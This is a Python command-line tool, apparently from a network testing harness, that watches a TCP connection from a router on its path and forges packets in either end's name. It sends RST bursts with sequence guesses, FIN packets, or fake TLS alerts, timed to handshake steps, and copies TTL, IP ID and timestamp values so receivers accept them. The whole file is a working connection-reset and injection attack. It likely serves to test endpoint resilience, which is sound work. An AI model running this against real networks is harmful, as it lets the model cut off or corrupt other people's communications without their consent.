#!/usr/bin/env python3
"""An on-path forger: sees copies of a connection's packets on one interface and sends packets of its
own in the name of one end. It drops nothing; what the ends sent arrives as well.

    inject.py IFACE PORT --trigger STEP --send KIND --to client|server|both [options]

STEP    `syn-ack`, `cr`, `cc`, `client-hello`, `server-hello`, `handshake:N`, `application:N` or
        `alert:N` (of --from), `bytes:N` (stream bytes of --from), `time:SECONDS` (since the SYN)
KIND    `rst`, `rst-triple` (at +0, +1460, +4380), `rst-acks` (acknowledging as far ahead),
        `rst-thrice` (the same again), `fin`, `data`
--sequence  `exact` (what the receiver waits for, as seen here), `late:N` (N below), `early:N` (N above)
--ttl       a number as it shall leave this router, or `copy` (what the named sender's packets have)
--ip-id     a number, `random`, or `copy` (the named sender's last, plus 1)
--ack       whether a RST carries ACK and the acknowledgement: `yes`, `no`
--timestamps `copy` (the option as the named sender would send it now), `none`
--data      for `data`: `alert:N` (a fatal TLS alert in clear), `random:N`, `hex:BYTES`
--delay-ms  waits so long after the trigger, then uses what it knows by then
--count     acts on the first N connections only; the others are left alone

Prints `ready`, then per act {"acted": KIND, "to": ..., "trigger": STEP, "client": ..., "server": ...,
"segments": [{"sequence", "acknowledgement", "flags", "ttl", "ip_id", "length"}]}.
Needs CAP_NET_RAW in the network namespace of a router of the path. IPv4 and IPv6.
"""

import argparse
import heapq
import os
import random
import socket
import struct
import time

from common.packets import ACK, FIN, PSH, RST, SYN, Segment, build, name, parse, timestamps
from common.report import acted, ready
from common.steps import Connections

_OUTGOING = 4  # PACKET_OUTGOING of <linux/if_packet.h>
_ETHERNET = 14
_FLAGS = {"rst": RST, "rst-triple": RST, "rst-acks": RST, "rst-thrice": RST, "fin": FIN | ACK,
          "data": PSH | ACK}


def main():
    options = arguments()
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sniffer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    sniffer.bind((options.interface, 0))
    forger = Forger(options)
    ready()
    while True:
        sniffer.settimeout(forger.pause())
        try:
            frame, (_, _, direction, _, _) = sniffer.recvfrom(65600)
        except (TimeoutError, BlockingIOError):
            frame = b""
        segment = parse(frame[_ETHERNET:])
        if segment is not None:
            forger.see(segment, direction == _OUTGOING)
        forger.act()


class Forger:
    """Follows the connections and keeps the acts that wait for their moment."""

    def __init__(self, options):
        self._options = options
        self._connections = Connections(options.port)
        self._due = []
        self._raw = {}

    def see(self, segment, leaves):
        """Takes one packet; `leaves` when this router has already counted its hop."""
        taken = self._connections.take(segment)
        if taken is None:
            return
        connection, who, frames = taken
        if connection.state is None:
            connection.state = {"done": False, "ttl": {}, "seen": {}}
        connection.state["seen"][who] = time.monotonic()
        connection.state["ttl"][who] = segment.ttl if leaves else segment.ttl - 1
        if connection.state["done"] or 0 < self._options.count < connection.number:
            return
        wait = self._wait(connection, who, segment, frames)
        if wait is not None:
            connection.state["done"] = True
            moment = time.monotonic() + wait + self._options.delay_ms / 1000
            heapq.heappush(self._due, (moment, connection.number, connection))

    def _wait(self, connection, who, segment, frames):
        """How many seconds after this packet the trigger is pulled; `None` when it is not."""
        kind, _, value = self._options.trigger.partition(":")
        if kind == "time":
            return float(value) if segment.flags & SYN and who == "client" else None
        if kind == "syn-ack":
            return 0 if segment.flags & SYN and who == "server" else None
        if kind == "bytes":
            hit = who == self._options.side and connection.__dict__[who].received >= int(value)
            return 0 if hit else None
        hit = any(step == self._options.trigger for step, _, _ in frames)
        counted = bool(value)
        return 0 if hit and (not counted or who == self._options.side) else None

    def pause(self):
        """How long nothing is due; a few seconds at most."""
        return max(self._due[0][0] - time.monotonic(), 0.0001) if self._due else 2

    def act(self):
        """Does what is due."""
        while self._due and self._due[0][0] <= time.monotonic():
            connection = heapq.heappop(self._due)[2]
            for victim in ("client", "server"):
                if self._options.to in (victim, "both"):
                    self._forge(connection, victim)

    def _forge(self, connection, victim):
        named = "server" if victim == "client" else "client"
        side, peer = getattr(connection, named), getattr(connection, victim)
        if side.highest is None or peer.highest is None:
            return
        guesses = (0, 1460, 4380)
        steps = {"rst-triple": [(step, 0) for step in guesses],
                 "rst-acks": [(0, step) for step in guesses],
                 "rst-thrice": [(0, 0)] * 3}.get(self._options.send, [(0, 0)])
        segments = [self._segment(connection, named, side, peer, step) for step in steps]
        for segment in segments:
            self._send(segment)
        model = connection.client.last
        acted(
            self._options.send, to=victim, trigger=self._options.trigger,
            client=name(model.source, model.source_port),
            server=name(model.target, model.target_port),
            segments=[
                {"sequence": each.sequence, "acknowledgement": each.acknowledgement,
                 "flags": each.flags, "ttl": each.ttl, "ip_id": each.ip_id,
                 "length": len(each.payload)} for each in segments
            ],
        )

    def _segment(self, connection, named, side, peer, guess):
        step, acks = guess
        options, model = self._options, side.last
        kind, _, shift = options.sequence.partition(":")
        shift = int(shift or 0) * {"exact": 0, "late": -1, "early": 1}[kind]
        flags = _FLAGS[options.send]
        if flags == RST and options.ack == "yes":
            flags |= ACK
        ip_id = {"copy": model.ip_id + 1, "random": random.randrange(1, 65536)}.get(options.ip_id)
        return Segment(
            model.source, model.target, model.source_port, model.target_port,
            (side.highest + shift + step) & 0xFFFFFFFF,
            (peer.highest + acks) & 0xFFFFFFFF if flags & ACK else 0, flags,
            window=0 if flags & RST else model.window,
            options=clock(connection, named) if options.timestamps == "copy" else b"",
            payload=payload(options.data) if options.send == "data" else b"",
            ttl=connection.state["ttl"][named] if options.ttl == "copy" else int(options.ttl),
            ip_id=(int(options.ip_id) if ip_id is None else ip_id) & 0xFFFF,
        )

    def _send(self, segment):
        family = socket.AF_INET if len(segment.source) == 4 else socket.AF_INET6
        if family not in self._raw:
            self._raw[family] = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        target = (socket.inet_ntop(family, segment.target), 0)
        self._raw[family].sendto(build(segment), target)


def clock(connection, named):
    """The timestamps option that the named sender would send now: an older one than its last would
    be thrown away by the receiver (PAWS, RFC 7323), and its clock runs in milliseconds."""
    option = timestamps(getattr(connection, named).last.options)
    if not option:
        return b""
    value, echo = struct.unpack_from("!II", option, 4)
    value += int((time.monotonic() - connection.state["seen"][named]) * 1000) + 1
    return option[:4] + struct.pack("!II", value & 0xFFFFFFFF, echo)


def payload(text):
    """The bytes that `--data` names."""
    kind, _, value = text.partition(":")
    if kind == "alert":
        return bytes([21, 3, 3, 0, 2, 2, int(value)])
    return os.urandom(int(value)) if kind == "random" else bytes.fromhex(value)


def arguments():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("interface")
    parser.add_argument("port", type=int)
    parser.add_argument("--trigger", default="client-hello")
    parser.add_argument("--from", dest="side", choices=("client", "server"), default="server")
    parser.add_argument("--send", choices=_FLAGS, default="rst")
    parser.add_argument("--to", choices=("client", "server", "both"), default="client")
    parser.add_argument("--sequence", default="exact")
    parser.add_argument("--ttl", default="64")
    parser.add_argument("--ip-id", default="random")
    parser.add_argument("--ack", choices=("yes", "no"), default="yes")
    parser.add_argument("--timestamps", choices=("copy", "none"), default="copy")
    parser.add_argument("--data", default="alert:40")
    parser.add_argument("--delay-ms", type=float, default=0)
    parser.add_argument("--count", type=int, default=0)
    return parser.parse_args()


if __name__ == "__main__":
    main()
